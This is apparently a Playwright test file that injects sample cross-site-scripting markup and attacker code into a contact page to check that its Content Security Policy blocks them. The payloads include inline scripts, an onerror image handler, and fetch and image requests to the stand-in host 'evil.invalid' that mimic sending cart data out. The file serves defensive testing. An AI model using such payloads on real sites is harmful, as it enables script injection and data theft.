import { expect } from '@playwright/test'
import { test } from './support/test.ts'

/** What an attacker got into a page through the build, and how the browser reports its refusal. */
const MARKUP: Readonly<Record<string, string>> = {
  "<script>document.title = 'taken'</script>": 'script-src-elem by inline',
  '<img src=x onerror="document.title = \'taken\'">': 'script-src-attr by inline',
  '<script src="https://evil.invalid/x.js"></script>': 'script-src-elem by https://evil.invalid/x.js',
  '<style>body { display: none }</style>': 'style-src-elem by inline',
  '<iframe src="https://evil.invalid/"></iframe>': 'frame-src by https://evil.invalid',
  '<base href="https://evil.invalid/">': 'base-uri by https://evil.invalid',
}

/** What an attacker's code in a page would do, by the directive that refuses it. */
const ATTACKS: Readonly<Record<string, () => unknown>> = {
  'require-trusted-types-for': () => (document.body.innerHTML = '<img src=x onerror="document.title=1">'),
  'trusted-types': () =>
    (
      window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
    ).trustedTypes.createPolicy('default', {}),
  'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://evil.invalid/?cart' })),
  'connect-src': () => fetch('https://evil.invalid/?cart').catch(() => undefined),
}

test('markup and code that got into a page are refused, and any test would fail on them', async ({
  page,
  policyViolations,
}) => {
  await page.route('/kontakt', async (route) => {
    const response = await route.fetch()
    const markup = Object.keys(MARKUP).join('\n')
    await route.fulfill({ response, body: (await response.text()).replace('<main', `${markup}<main`) })
  })
  await page.goto('/kontakt')
  for (const attack of Object.values(ATTACKS)) await page.evaluate(attack).catch(() => undefined)
  for (const how of [...Object.values(MARKUP), ...Object.keys(ATTACKS).map((directive) => `${directive} `)])
    await expect
      .poll(() => policyViolations)
      .toContainEqual(expect.stringContaining(`securitypolicyviolation of ${how}`))
  await expect(page).toHaveTitle(/^Kontakt/)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  policyViolations.length = 0
})
